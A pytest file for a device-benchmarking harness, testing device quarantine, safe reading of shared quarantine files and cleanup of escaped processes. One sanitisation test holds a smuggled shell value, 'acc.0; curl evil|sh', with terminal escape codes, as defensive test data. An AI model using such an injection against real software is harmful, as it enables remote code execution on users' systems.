"""A device that ails leaves the pool, the next run is told, and a person can have it back."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from waiting import PATIENCE_S

from torchgauge.clock import SYSTEM_CLOCK
from torchgauge.devices.device import DeviceDescriptor
from torchgauge.errors import InfrastructureError, UnknownNameError
from torchgauge.harness.pool import quarantine, strays
from torchgauge.harness.pool.device_health import DeviceHealth
from torchgauge.harness.pool.device_lease import FOLDER
from torchgauge.harness.run.absent_devices import refuse_quarantined
from torchgauge.records import (
    Calibration,
    Case,
    Configuration,
    DeviceTarget,
    Group,
    PlannedCase,
    Tolerance,
    Workload,
)

ACC = DeviceDescriptor("acc", "Accelerator", "m:c", "acc")
FAKE = DeviceDescriptor("fake", "No hardware", "m:c", None)
HOST = DeviceDescriptor("cpu", "Host", "m:c", "cpu")
DAEMON = """
import os, signal, sys, time
signal.signal(signal.SIGTERM, signal.SIG_IGN)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        print(os.getpid(), flush=True)
        os.closerange(0, 1000)
        time.sleep(600)
    os._exit(0)
os.wait()
"""


@pytest.fixture(autouse=True)
def _own_leases(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(FOLDER, str(tmp_path / "leases"))


def health(device: DeviceDescriptor = ACC, index: int = 0) -> DeviceHealth:
    return DeviceHealth(device, DeviceTarget(device.name, index), "run-1", SYSTEM_CLOCK)


def test_a_device_that_is_lost_twice_is_out_until_it_is_released(tmp_path: Path) -> None:
    """With the reason, the run and what to type; another index stays in."""
    ill = health(index=1)
    ill.lost("toy/mlp", "no answer", began=time.time(), opened=True)
    assert (ill.gone, ill.said()) == ("", [])
    ill.lost("toy/sum", "no answer either", began=time.time(), opened=True)
    reason = "lost 2 times, the last time: no answer either"
    lift = "torchgauge devices --release acc.1"
    assert ill.said() == [f"device 'acc.1' has left the pool: {reason}; try: {lift}"]
    ill.leave("again")
    assert (ill.gone, ill.said()) == (reason, [])
    after = health(index=1)
    assert after.gone.endswith(f"(run-1): {reason}")
    assert after.said() == [f"device 'acc.1' is not used: {after.gone}; try: {lift}"]
    assert health().gone == ""
    assert [each.device for each in quarantine.everything()] == ["acc.1"]
    assert oct((tmp_path / "leases").stat().st_mode)[-4:] == "1777"
    assert quarantine.release("acc.1").reason == reason
    assert health(index=1).gone == ""
    with pytest.raises(UnknownNameError, match="no device is in quarantine"):
        quarantine.release("acc.1")


def test_groups_that_ran_at_once_lose_a_device_once() -> None:
    """One reset fails all that were in flight."""
    ill, began = health(), time.time()
    ill.lost("toy/mlp", "reset", began=began, opened=True)
    ill.lost("toy/sum", "reset", began=began, opened=True)
    assert (ill.gone, ill.losses) == ("", 1)


def test_a_device_that_one_model_alone_lost_is_out_of_its_run_only() -> None:
    """What one model reports may be wrong, however often it is tried."""
    ill = health()
    for _ in range(2):
        ill.lost("toy/mlp", "no answer", began=time.time(), opened=True)
    assert ill.gone.startswith("lost 2 times")
    assert list(quarantine.everything()) == []


def test_a_device_that_never_opened_is_out_of_its_run_only() -> None:
    """Somebody else may have it: the next run asks."""
    busy = health()
    for model in ("toy/mlp", "toy/sum"):
        busy.lost(model, "all devices are busy or unavailable", began=time.time(), opened=False)
    assert busy.gone.startswith("lost 2 times")
    assert list(quarantine.everything()) == []


@pytest.mark.parametrize("what", ["pipe", "link", "late", "deep", "huge"])
def test_what_another_user_puts_there_stops_nobody(what: str, tmp_path: Path) -> None:
    """The folder is everybody's: no wait, no end of a command, and no words of theirs on a terminal."""
    folder = tmp_path / "leases"
    folder.mkdir()
    path = folder / "acc.0.quarantine"
    if what == "pipe":
        os.mkfifo(path)
    elif what == "link":
        path.symlink_to("/dev/zero")
    else:
        text = {"late": '{"device":"acc.0","reason":"r","at":1e20,"run_id":"x"}', "deep": "[" * 100_000}
        path.write_text(text.get(what, "[" + "1," * 100_000))
    assert health().gone.endswith("(unknown): " + f"{path} cannot be read")


def test_the_words_of_a_quarantine_act_on_nothing(tmp_path: Path) -> None:
    """Neither on a terminal nor in what is offered to be typed."""
    folder = tmp_path / "leases"
    folder.mkdir()
    told = {
        "device": "acc.0; curl evil|sh",
        "reason": "\x1b]0;x\x07hot\nand",
        "at": 1.0,
        "run_id": "r\x1b[2J",
    }
    (folder / "acc.0.quarantine").write_text(json.dumps(told))
    found = quarantine.read(folder / "acc.0")
    assert found is not None
    assert (found.device, found.reason, found.run_id) == ("acc.0", "hot", "r")
    assert found.lift == "torchgauge devices --release acc.0"


def test_a_release_without_an_index_is_of_the_first() -> None:
    """As devices are typed elsewhere; a name that is a path is none."""
    health().leave("it smokes", lasting=True)
    assert quarantine.release("acc").device == "acc.0"
    with pytest.raises(UnknownNameError):
        quarantine.release("../leases/acc.0")


def test_a_run_of_checks_alone_examines_a_device_in_quarantine() -> None:
    """How else would anybody know that it is well again."""
    health().leave("it smokes", lasting=True)
    target = DeviceTarget("acc")
    assert DeviceHealth(ACC, target, "run-2", SYSTEM_CLOCK, only_checks=True).gone == ""


@pytest.mark.parametrize("device", [FAKE, HOST])
def test_what_is_no_hardware_of_its_own_is_out_of_its_run_only(device: DeviceDescriptor) -> None:
    """The host is what torchgauge runs on, and a fake device cannot be ill tomorrow."""
    ill = health(device)
    ill.leave("it smokes", lasting=True)
    assert ill.gone == "it smokes"
    assert list(quarantine.everything()) == []
    assert health(device).gone == ""


def test_a_file_that_cannot_be_read_keeps_the_device_out(tmp_path: Path) -> None:
    """Somebody wrote it, and nobody knows why."""
    folder = tmp_path / "leases"
    folder.mkdir()
    (folder / "acc.0.quarantine").write_text("{")
    assert "cannot be read" in health().gone
    assert quarantine.release("acc").run_id == "unknown"


def test_a_quarantine_that_cannot_be_written_is_said(tmp_path: Path) -> None:
    """The run goes on without the device all the same."""
    (tmp_path / "leases").write_text("")
    ill = health()
    ill.leave("it smokes", lasting=True)
    (said,) = ill.said()
    assert said.startswith("device 'acc' has left the pool: it smokes; the quarantine could not be written: ")


@pytest.mark.parametrize(
    ("gemm", "copy", "drift"),
    [
        (1.0, 1.0, ""),
        (0.3, 1.0, ""),
        (0.2, 1.0, "calibration gemm fell to 20%"),
        (1.0, 0.1, "copy fell to 10%"),
    ],
)
def test_a_device_that_lost_three_quarters_of_its_speed_has_drifted(
    gemm: float, copy: float, drift: str
) -> None:
    """Neighbours of a simulated device take less; a calibration that is absent says nothing."""
    start = Calibration("acc", "start", 1e12, 1e11, 1e-5)
    end = Calibration("acc", "end", 1e12 * gemm, 1e11 * copy, 1e-5)
    assert drift in health().drifted(start, end)
    assert bool(health().drifted(start, end)) is bool(drift)
    assert health().drifted(start, Calibration("acc", "end", None, None, None, "absent")) == ""


def group(index: int) -> Group:
    case = Case(Workload("toy", "mlp"), Configuration("eager", "eager"), DeviceTarget("acc", index))
    return Group(f"g{index}", (PlannedCase(case, Tolerance(0.0, 0.0, 1.0, "test")),))


def test_a_run_of_which_every_device_is_in_quarantine_is_refused() -> None:
    """Before it begins, with the command that lifts it; where one is not, that one takes over."""
    devices = {"acc": ACC}
    refuse_quarantined([group(0), group(1)], devices)
    health().leave("it smokes", lasting=True)
    refuse_quarantined([group(0), group(1)], devices)
    with pytest.raises(
        InfrastructureError, match=r"device 'acc' is in quarantine since .* it smokes"
    ) as said:
        refuse_quarantined([group(0)], devices)
    assert said.value.hint == "torchgauge devices --release acc.0, once the device works"


Escape = Callable[[], int]


@pytest.fixture
def escape(tmp_path: Path) -> Iterator[Escape]:
    """Starts a daemon under a lease that has closed everything and that no SIGTERM ends; its process id."""
    started: list[int] = []

    def start() -> int:
        lease = os.open(tmp_path, os.O_RDONLY)
        try:
            environment = {**os.environ, strays.MARK: strays.mark_of([lease])}
        finally:
            os.close(lease)
        said = subprocess.run(
            [sys.executable, "-c", DAEMON],
            env=environment,
            stdout=subprocess.PIPE,
            text=True,
            check=True,
            timeout=120,
        )
        started.append(int(said.stdout.split()[0]))
        return started[-1]

    yield start
    for pid in started:
        try:
            os.kill(pid, signal.SIGKILL)
        except ProcessLookupError:
            continue


def test_what_escaped_is_ended_when_a_worker_was_not_ended_in_time(escape: Escape) -> None:
    """SIGTERM, a grace, SIGKILL; the device stays."""
    pid = escape()
    ill = health()
    ill.look_for_strays()
    assert ill.gone == ""
    (said,) = ill.said()
    assert f"ended a process that had escaped on device 'acc': pid {pid} (" in said
    assert not strays.process_tree.alive([pid])


def test_a_device_with_a_holder_that_nothing_ends_leaves_for_good(
    escape: Escape, monkeypatch: pytest.MonkeyPatch
) -> None:
    """As a process in uninterruptible sleep: here signals do not arrive. No wait is without a deadline."""
    pid = escape()
    monkeypatch.setattr(strays.process_tree, "signal_one", lambda _pid, _number: None)
    monkeypatch.setattr(strays, "GONE_S", 0.2)
    ill = health()
    began = time.monotonic()
    ill.look_for_strays()
    assert time.monotonic() - began < PATIENCE_S
    assert f"a process that cannot be killed holds the device: pid {pid} (" in ill.gone
    assert [each.reason for each in quarantine.everything()] == [ill.gone]
